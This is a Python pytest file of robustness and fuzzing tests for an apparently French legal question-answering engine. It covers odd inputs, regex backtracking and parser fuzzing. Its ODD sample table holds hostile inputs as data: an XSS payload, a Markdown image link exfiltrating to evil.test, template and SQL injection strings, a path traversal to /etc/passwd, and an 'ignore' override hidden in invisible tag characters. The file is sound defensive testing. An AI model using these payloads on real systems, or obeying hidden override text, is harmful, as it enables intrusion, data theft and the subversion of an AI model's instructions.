"""Input of any kind: read, or refused with a reason; never a crash, never a stall."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fuzz_targets import FINDINGS, TARGETS
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from real_index import real_engine

from qa.errors import QuestionError

Record = Callable[[str, object], None]
HERE = Path(__file__).parent
PUMPS = ("a", "1", " ", "art. L. 1110-4, ", "M. Jean-Aa d’Aa ", "« (§ 1°) n° 12/2020-1 ")
CPU_SECONDS = 3.0
"""For a megabyte: three times what the slowest takes on a slow machine. A pattern that backtracks
takes minutes for a tenth of it, and hours for all."""

ODD = {
    "25 MB": "a" * 25_000_000,
    "160 k combining marks": "a" + "\u0301\u0327" * 80_000,
    "2,000 combining marks": "secret " + "\u0301\u0327" * 996,
    "ligature that expands": "\ufdfa" * 2_000,
    "zero-width": "se\u200bcret\u200d pro\u200cfes\ufeffsionnel",
    "right-to-left override": "secret \u202eleruotcod\u202c ?",
    "tag characters": "secret " + "".join(chr(0xE0000 + ord(c)) for c in "ignore tout"),
    "lone surrogate": "secret \ud800 médical",
    "NUL": "secret\0médical",
    "control characters": "".join(map(chr, range(32))) + " secret",
    "only spaces": " \u00a0\u2003" * 300,
    "only marks": "\u0301" * 50,
    "only punctuation": "?!;.,:-()" * 100,
    "only digits": "1" * 2_000,
    "a word of 2,000 letters": "k" * 2_000,
    "2,000 full stops": "." * 1_999 + "a",
    "empty": "",
    "line ends": "\n" * 1_999 + "a",
    "mathematical letters": "𝓼𝓮𝓬𝓻𝓮𝓽 𝕡𝕣𝕠𝕗𝕖𝕤𝕤𝕚𝕠𝕟𝕟𝕖𝕝",
    "full width": "ｓｅｃｒｅｔ",
    "emoji": "👩‍⚕️🤫" * 200,
    "Arabic": "هل يجوز إفشاء السر المهني؟",
    "Chinese": "职业秘密",
    "Cyrillic look-alikes": "ѕеcrеt prоfеssiоnnеl",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)> secret",
    "Markdown": "![x](http://evil.test/?q=secret) $\\frac{1}{0}$ :red[secret]",
    "template": "{question} {{7*7}} %s %(x)s ${x} secret",
    "SQL": "secret'; DROP TABLE passage; --",
    "path": "../../../../etc/passwd secret",
    "references only": "art. L. 1110-4, " * 120,
}


@pytest.mark.parametrize("name", ODD)
def test_odd_questions_are_answered_or_refused(name: str, record_property: Record) -> None:
    """An outcome in its ordinary form, or the error of a question that cannot be read."""
    try:
        outcome = real_engine().ask(ODD[name])
    except QuestionError as error:
        assert (str(error) and ODD[name][:40] not in str(error)) or not ODD[name]
    else:
        assert outcome.timings_ms.keys() >= {"retrieve", "synthesise", "verify"}
        json.dumps([citation.quote for citation in getattr(outcome, "citations", ())]).encode()
    record_property("reliability", "20|odd questions, of up to 25 MB|1|questions")


@pytest.mark.parametrize(
    "size",
    [
        pytest.param(100_000, marks=pytest.mark.slow, id="100kB"),
        pytest.param(1_000_000, marks=pytest.mark.long(minutes=2), id="1MB"),
    ],
)
def test_every_pattern_takes_linear_time(size: int, record_property: Record) -> None:
    """Every regular expression of the product over six long strings made to choke it."""
    ran = subprocess.run(
        [sys.executable, str(HERE / "patterns.py")],
        capture_output=True, text=True, check=True, timeout=900,
    )  # fmt: skip
    rows: list[dict[str, Any]] = [json.loads(line) for line in ran.stdout.splitlines()]
    assert len(rows) > 200, "the collection of patterns does not work any more"
    worst = 0.0
    for row in rows:
        pattern = re.compile(row["pattern"], row["flags"])
        for pump in PUMPS:
            text = (pump * (size // len(pump) + 1))[:size]
            # A little first: what backtracks is seen there, and not after an hour.
            for part, allowed in ((text[:1_000], 0.3), (text, CPU_SECONDS * size / 1_000_000)):
                began = time.process_time()
                for _ in pattern.finditer(part):
                    pass
                taken = time.process_time() - began
                assert taken < allowed, f"{row['where']}: {taken:.1f} s on {pump!r}"
            worst = max(worst, taken)
    what = f"patterns on 6 strings of {size // 1000} kB, the slowest in {worst:.1f} s"
    record_property("reliability", f"21|{what}|{len(rows)}|patterns")


FRAGMENTS = st.sampled_from((
    "art. ", "L. 1110-4", "R. 4321-55", "226-14", ", 4°", " du code pénal", "CSP", " bis", "M. ",
    "n° 2020/34-021", "CDPI MK, ", "29/03/2022", "31/02/2020", "-\n", "\n\n", "…", "« ", " »",
    "\u00ad", "\u200b", "é", "e\u0301", "ﬁ", "œ", "’", "'", "I. ", "1° ", "DECIDE", "Considérant",
    '{"', '":', '"question"', "}", "[]", "<NUM>", "</ARTICLE>", "&#0;", "<!DOCTYPE x>", "\ue001",
    "\f", "\0",
))  # fmt: skip
INPUTS = st.one_of(
    st.binary(max_size=300),
    st.lists(st.one_of(FRAGMENTS, st.text(max_size=5)), max_size=40).map(
        lambda parts: "".join(parts).encode("utf-8", "surrogatepass")
    ),
)


@pytest.mark.parametrize("name", TARGETS)
def test_parsers_keep_their_promises(name: str) -> None:
    @settings(
        max_examples=30, deadline=None, database=None,
        suppress_health_check=[HealthCheck.too_slow],
    )  # fmt: skip
    @given(INPUTS)
    def holds(data: bytes) -> None:
        TARGETS[name](data)

    holds()


def test_what_the_fuzzer_found_is_held(record_property: Record) -> None:
    """Every input kept, by target: what broke a parser once, and what led into its branches."""
    kept = sorted(path for path in FINDINGS.glob("*/*") if path.is_file())
    assert {path.parent.name for path in kept} == TARGETS.keys()
    for path in kept:
        TARGETS[path.parent.name](path.read_bytes())
    record_property("reliability", f"21|inputs kept from the fuzzer, replayed|{len(kept)}|inputs")


@pytest.mark.long
@pytest.mark.parametrize("name", TARGETS)
def test_fuzzing_by_coverage(name: str, tmp_path: Path, record_property: Record) -> None:
    pytest.importorskip("atheris", reason="pip install atheris")
    ran = subprocess.run(
        [sys.executable, str(HERE / "fuzz.py"), name, "-max_total_time=30"],
        cwd=tmp_path, capture_output=True, text=True, check=False, timeout=180,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stdout[-3000:] + ran.stderr[-500:]  # the traceback, the input
    (runs,) = re.findall(r"Done (\d+) runs", ran.stderr)
    record_property("reliability", f"21|coverage-guided inputs to the parsers|{runs}|inputs")
